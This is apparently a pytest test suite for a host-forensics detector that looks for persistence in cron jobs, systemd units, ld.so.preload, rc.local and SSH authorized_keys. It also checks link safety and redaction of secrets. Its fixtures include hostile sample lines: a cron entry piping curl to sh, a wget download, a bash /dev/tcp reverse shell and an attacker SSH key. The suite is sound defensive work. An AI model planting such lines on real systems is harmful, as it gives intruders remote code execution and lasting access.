"""What starts by itself: found where it is meant to lie, and nowhere that somebody only points at."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.host.persistence import (
    EXCERPT_BYTES,
    MOST_FILES,
    MOST_POINTS,
    parse_logins,
    parse_waiting,
    persistence,
    telling,
)
from engine.types import Finding

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE" + "A" * 40 + " attacker@evil"
PLACES = {
    "etc/cron.d/x": ("cron", "* * * * * root curl http://203.0.113.66/x | sh"),
    "etc/crontab": ("cron", "SHELL=/bin/sh\n# m h\n17 * * * * root run-parts /etc/cron.hourly"),
    "etc/cron.daily/x": ("cron", "#!/bin/sh\nwget -qO- http://203.0.113.66/x"),
    "var/spool/cron/crontabs/www-data": ("cron", "@reboot /tmp/.x"),
    "etc/systemd/system/x.service": ("unit", "[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/.x -q"),
    "etc/systemd/system/ssh.service.d/x.conf": ("unit", "[Service]\nExecStartPre=/tmp/.x"),
    "etc/ld.so.preload": ("ld_preload", "/usr/lib/libx.so"),
    "etc/rc.local": ("rc", "#!/bin/sh\n/usr/local/bin/x &\nexit 0"),
    "home/ann/.ssh/authorized_keys": ("authorized_keys", KEY),
}


def put(root: Path, place: str, content: str = "x") -> Path:
    made = root / place
    made.parent.mkdir(parents=True, exist_ok=True)
    made.write_text(content)
    return made


@pytest.fixture
def root(tmp_path: Path) -> Path:
    put(
        tmp_path,
        "etc/passwd",
        "root:x:0:0::/root:/bin/bash\nann:x:1:1::/home/ann:/bin/sh\ndaemon:x:2:2::/sbin:/usr/sbin/nologin\n",
    )
    return tmp_path


@pytest.mark.parametrize("place", PLACES)
def test_every_place_is_looked_at(place: str, root: Path) -> None:
    kind, content = PLACES[place]
    put(root, place, content)
    found = persistence(root)
    assert (found.finding, [(point.kind, point.path) for point in found.points]) == (
        Finding.FOUND,
        [(kind, f"/{place}")],
    )
    assert found.points[0].excerpt


def test_the_newest_come_first_and_no_more_than_twenty(root: Path) -> None:
    for number in range(MOST_POINTS + 5):
        file = put(root, f"etc/cron.d/job{number:02}")
        os.utime(file, (4e9 + number, 4e9 + number))
    points = persistence(root).points
    assert [point.path for point in points] == [f"/etc/cron.d/job{n:02}" for n in range(MOST_POINTS + 4, 4, -1)]


def test_a_time_that_was_set_back_does_not_hide_a_change(root: Path) -> None:
    file = put(root, "etc/cron.d/x")
    os.utime(file, (1.0, 1.0))
    assert persistence(root).points[0].modified_at > 1e9


def test_a_file_with_a_second_name_is_told_and_not_read(root: Path) -> None:
    shadow = put(root, "etc/shadow", "root:the secret:1:::")
    (root / "home/ann/.ssh").mkdir(parents=True)
    (root / "home/ann/.ssh/authorized_keys").hardlink_to(shadow)
    (point,) = persistence(root).points
    assert (point.path, point.excerpt) == ("/home/ann/.ssh/authorized_keys", "")


def test_keys_are_found_among_any_number_of_files(root: Path) -> None:
    for number in range(MOST_FILES + 1):
        put(root, f"home/ann/.ssh/{number}")
    put(root, "home/ann/.ssh/authorized_keys", KEY)
    assert [point.path for point in persistence(root).points] == ["/home/ann/.ssh/authorized_keys"]


def test_no_link_is_followed(root: Path) -> None:
    secret = put(root, "root-only/secret", "the secret")
    (root / "etc/cron.d").mkdir()
    (root / "etc/cron.d/x").symlink_to(secret)
    (root / "home/ann").mkdir(parents=True)
    (root / "home/ann/.ssh").symlink_to(secret.parent)
    put(root, "root-only/authorized_keys", "the secret")
    (root / "etc/cron.daily").symlink_to(secret.parent)
    assert persistence(root).points == ()


def test_pipes_folders_and_devices_are_no_files(root: Path) -> None:
    (root / "etc/cron.d").mkdir()
    os.mkfifo(root / "etc/cron.d/pipe")
    (root / "etc/cron.d/folder").mkdir()
    assert persistence(root).points == ()


def test_users_without_a_login_shell_and_other_files_of_a_home_are_left_alone(root: Path) -> None:
    put(root, "sbin/.ssh/authorized_keys", KEY)
    put(root, "home/ann/.ssh/id_ed25519", "PRIVATE KEY")
    assert persistence(root).points == ()


def test_a_key_is_told_without_its_letters(root: Path) -> None:
    put(root, "home/ann/.ssh/authorized_keys", f"# mine\nssh-rsa AAAAB3Nz{'B' * 400} ann@laptop\n{KEY}\n")
    excerpt = persistence(root).points[0].excerpt
    assert excerpt == "ssh-ed25519 AAAAC3NzaC1l... attacker@evil"


@pytest.mark.parametrize(
    "line",
    [
        "0 3 * * * mysqldump -u root -p%s shop | gzip > /srv/x.gz",
        "@daily PGPASSWORD=%s pg_dump shop",
        f"0 3 * * * curl -u bob:%s https://shop.example/{'a' * 300}",
        f"0 3 * * * backup --to {'b' * (EXCERPT_BYTES - 45)} ftp://bob:%s@shop.example/",
    ],
    ids=["a flag", "the environment", "a login", "at the cut"],
)
def test_a_secret_of_a_file_that_not_everybody_may_read_stays_in_it(line: str, root: Path) -> None:
    put(root, "var/spool/cron/crontabs/ann", f"{line % 'hunter2hunter2'}\n").chmod(0o600)
    excerpt = persistence(root).points[0].excerpt
    assert excerpt.startswith(line[:9])
    assert "hunter" not in excerpt


@pytest.mark.parametrize(
    ("kind", "content", "line"),
    [
        ("cron", b"PATH=/bin\n5 5 * * * root backup\n6 6 * * * root wget http://x", "6 6 * * * root wget http://x"),
        ("cron", b"# nothing\n\n", ""),
        ("unit", b"[Service]\nUser=x\nExecStart=/bin/x", "ExecStart=/bin/x"),
        ("unit", b"[Service]\nUser=x", "User=x"),
        ("rc", b"#!/bin/sh\n/opt/x\nbash -i >& /dev/tcp/1.2.3.4/5\nexit 0", "bash -i >& /dev/tcp/1.2.3.4/5"),
        ("authorized_keys", b'command="/tmp/x" ssh-rsa A a\nssh-rsa B b', 'command="/tmp/x" ssh-rsa A a'),
    ],
)
def test_the_line_that_says_most_is_told(kind: str, content: bytes, line: str) -> None:
    assert telling(kind, content) == line


def test_file_systems_that_may_keep_a_reader_waiting_are_known() -> None:
    mounts = (
        b"1 2 0:3 / / rw - 9p rootfs rw\n4 1 0:5 / /home/ann\\040x rw - nfs4 server:/x rw\n"
        b"6 1 0:7 / /home/bob/.ssh rw - fuse.sshfs x rw\ngarbage\n"
    )
    assert parse_waiting(mounts) == ("/home/ann x", "/home/bob/.ssh")


@given(st.sampled_from(["cron", "unit", "authorized_keys", "rc", "ld_preload"]), st.binary(max_size=2000))
def test_no_content_raises_and_a_line_stays_bounded(kind: str, content: bytes) -> None:
    assert len(telling(kind, content)) <= EXCERPT_BYTES
    parse_logins(content)
    parse_waiting(content)


def test_this_host_can_be_looked_at() -> None:
    assert persistence().finding is Finding.FOUND


def test_a_root_that_is_not_there_says_nothing(tmp_path: Path) -> None:
    assert persistence(tmp_path / "gone").finding is not Finding.FOUND
